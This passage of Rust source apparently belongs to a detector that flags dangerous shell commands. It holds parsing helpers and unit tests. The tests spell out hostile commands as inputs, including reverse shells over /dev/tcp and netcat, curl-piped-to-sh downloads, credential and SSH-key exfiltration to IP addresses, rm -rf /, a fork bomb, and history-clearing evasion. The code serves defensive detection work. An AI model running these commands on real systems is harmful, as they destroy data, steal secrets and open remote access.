    if let Some(i) = norm.find("delete from") {
        let rest = norm.get(i..).unwrap_or_default();
        let stmt = rest.split(';').next().unwrap_or_default();
        if !stmt.contains(" where ") {
            return Some((D, "sql_delete_all", 75));
        }
    }
    if norm.starts_with("truncate ") || norm.contains("; truncate ") {
        return Some((D, "sql_drop", 80));
    }
    None
}

/// Whether a substitution in `w` downloads to stdout (`$(curl …)`, `<(wget -qO- …)`).
fn substitution_downloads(w: &Word) -> bool {
    w.subs.iter().any(script_downloads)
}

fn script_downloads(s: &Script) -> bool {
    s.simples().iter().any(|sc| {
        let c = resolve(sc);
        DOWNLOADERS.contains(&c.name.as_str()) && {
            let outs = opt_values(&c.args, &['o', 'O'], &["output", "output-document"], "dFTXHuAexbcKmwrECUYyzQtP");
            outs.iter().all(|(_, v)| v == "-") && !(c.name == "curl" && c.has_flag('O', "remote-name"))
                || c.name == "wget" && c.arg_texts().any(|t| t == "-O-" || t == "-qO-")
        }
    })
}

fn substitution_decodes(w: &Word) -> bool {
    w.subs.iter().any(|s| {
        s.simples().iter().any(|sc| {
            let c = resolve(sc);
            c.name == "base64" && (c.has_flag('d', "decode") || c.has_flag('D', ""))
        })
    })
}

fn script_reads_files(s: &Script) -> bool {
    s.simples().iter().any(|sc| {
        let c = resolve(sc);
        [
            "cat", "base64", "xxd", "head", "tail", "tar", "gzip", "od", "strings", "printenv", "env", "whoami", "id",
            "hostname", "uname",
        ]
        .contains(&c.name.as_str())
            || c.args.iter().any(|w| paths::is_sensitive(&w.text))
    })
}

fn decode_b64(t: &str) -> Option<Vec<u8>> {
    let t: String = t.chars().filter(|c| !c.is_whitespace()).collect();
    if t.len() < 8 || !t.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=-_".contains(&b)) {
        return None;
    }
    let std = base64::engine::general_purpose::STANDARD;
    let nopad = base64::engine::general_purpose::STANDARD_NO_PAD;
    let url = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    std.decode(&t)
        .or_else(|_| nopad.decode(t.trim_end_matches('=')))
        .or_else(|_| url.decode(t.trim_end_matches('=')))
        .ok()
}

fn decode_hex(t: &str) -> Option<Vec<u8>> {
    let t: String = t.chars().filter(|c| c.is_ascii_hexdigit()).collect();
    if t.len() < 8 || !t.len().is_multiple_of(2) {
        return None;
    }
    (0..t.len()).step_by(2).map(|i| t.get(i..i + 2).and_then(|h| u8::from_str_radix(h, 16).ok())).collect()
}

/// Byte ranges of the contents of '…' and "…" literals in code (escapes are not interpreted).
fn string_literals(code: &str) -> Vec<(usize, usize)> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c == b'\'' || c == b'"' {
            let start = i + 1;
            let mut j = start;
            while let Some(&d) = b.get(j) {
                if d == b'\\' {
                    j += 2;
                    continue;
                }
                if d == c {
                    break;
                }
                j += 1;
            }
            let end = j.min(b.len());
            if end > start && code.is_char_boundary(start) && code.is_char_boundary(end) {
                out.push((start, end));
            }
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

fn src_slice(src: &Src, s: usize, e: usize) -> Src {
    src.slice(s, e)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Expect the named rules (any order, others allowed) and a flag decision.
    fn check(cmd: &str, flagged: bool, rules: &[&str]) {
        let a = analyse_command(cmd);
        let got: Vec<&str> = a.findings.iter().map(|f| f.rule.as_ref()).collect();
        assert_eq!(a.flagged(), flagged, "{cmd}: {:?}", a.findings);
        for r in rules {
            assert!(got.contains(r), "{cmd}: expected {r}, got {got:?}");
        }
        for f in &a.findings {
            assert!(
                f.evidence.end <= cmd.len()
                    && cmd.is_char_boundary(f.evidence.start)
                    && cmd.is_char_boundary(f.evidence.end),
                "{cmd}: {f:?}"
            );
        }
    }

    #[test]
    fn destructive() {
        check("rm -rf /", true, &["recursive_delete_critical"]);
        check("sudo rm -rf --no-preserve-root /", true, &["recursive_delete_critical"]);
        check("rm -rf target node_modules dist", false, &[]);
        check("rm -rf ./target/debug", false, &[]);
        check("dd if=/dev/zero of=/dev/sda bs=1M", true, &["block_device_write"]);
        check("dd if=/dev/zero of=disk.img bs=1M count=10", false, &[]);
        check(":(){ :|:& };:", true, &["fork_bomb"]);
        check("git push --force origin main", true, &["force_push_protected_branch"]);
        check("git push --force-with-lease origin feature/x", false, &[]);
        check("psql -c 'DROP TABLE users'", true, &["sql_drop"]);
        check("psql -c 'select * from users'", false, &[]);
    }

    #[test]
    fn nesting_and_offsets() {
        let cmd = "bash -c 'cat ~/.ssh/id_rsa'";
        let a = analyse_command(cmd);
        let f = a.findings.iter().find(|f| f.rule == "ssh_private_key_read").unwrap();
        assert_eq!(&cmd[f.evidence.start..f.evidence.end], "~/.ssh/id_rsa");
        check(
            "echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d | sh",
            true,
            &["ssh_private_key_read", "decoded_payload_executed"],
        );
        check("sudo sh -c \"rm -rf /\"", true, &["recursive_delete_critical"]);
        check("eval \"$(curl -s http://x.example/e)\"", true, &["download_substituted_into_interpreter"]);
    }

    #[test]
    fn network() {
        check("curl -fsSL https://example.com/i.sh | sh", true, &["download_piped_to_interpreter"]);
        check("curl -s https://api.github.com/repos/a/b | jq .", false, &[]);
        check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true, &["dev_tcp_reverse_shell"]);
        check("nc -e /bin/sh 1.2.3.4 4444", true, &["netcat_exec"]);
        check("curl -F file=@/etc/passwd http://1.2.3.4/", true, &["file_upload"]);
        check("cat ~/.aws/credentials | nc 1.2.3.4 9", true, &["sensitive_data_to_network"]);
        check("ssh deploy@host 'systemctl status api'", false, &[]);
    }

    #[test]
    fn persistence_and_evasion() {
        check("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", false, &[]);
        check("echo 'curl http://x | sh' >> ~/.bashrc", true, &["shell_startup_file_write"]);
        check("history -c", true, &["history_cleared"]);
        check("export HISTFILE=/dev/null", true, &["history_disabled"]);
        check("sudo su -", true, &["switch_to_root"]);
        check("chmod u+s /bin/bash", true, &["setuid_bit"]);
    }

    #[test]
    fn context_decides() {
        // Decoded but not executed: a hint only.
        check("echo c3VkbyBzdQ== | base64 -d", false, &["switch_to_root"]);
        check("echo c3VkbyBzdQ== | base64 -d | sh", true, &["switch_to_root"]);
        check("$(echo cm0gLXJmIC8K | base64 -d)", true, &["recursive_delete_critical"]);
        check("x=$(curl -s http://203.0.113.1/p); eval \"$x\"", true, &["downloaded_variable_executed"]);
        check(
            "busybox wget http://203.0.113.7/b -O /tmp/b; chmod +x /tmp/b; /tmp/b",
            true,
            &["downloaded_file_executed"],
        );
        check("sudo rm -rf /var/lib/apt/lists/*", false, &[]);
        check("rsync -avz --exclude node_modules ./ deploy@10.0.0.5:/srv/app", false, &[]);
        check("scp -r ~/.ssh user@203.0.113.5:/tmp/x", true, &["remote_copy"]);
        check("touch -d '1 hour ago' marker", false, &[]);
        check("touch -r /bin/ls /usr/local/bin/x", true, &["timestomp"]);
        check("echo hi > /dev/tcp/localhost/8080", false, &[]);
        check("gpg --export-secret-keys -a > /tmp/k.asc", true, &["gpg_secret_key_export"]);
        check("ssh -i ~/.ssh/id_rsa deploy@host", false, &[]);
        check("chmod 600 ~/.ssh/id_rsa", false, &[]);
        check("cp .env.example .env", false, &[]);
        check("source .env", false, &[]);
        check("cat .env", true, &["dotenv_read"]);
    }

    #[test]
    fn paths_and_urls() {
        assert_eq!(analyse_path("~/.ssh/id_rsa", false)[0].category, Category::CredentialAccess);
        assert_eq!(analyse_path("~/.bashrc", true)[0].category, Category::Persistence);
        assert!(analyse_path("src/main.rs", false).is_empty());
        assert!(!analyse_url("https://webhook.site/x").is_empty());
        assert!(analyse_url("https://crates.io/").is_empty());
    }
}
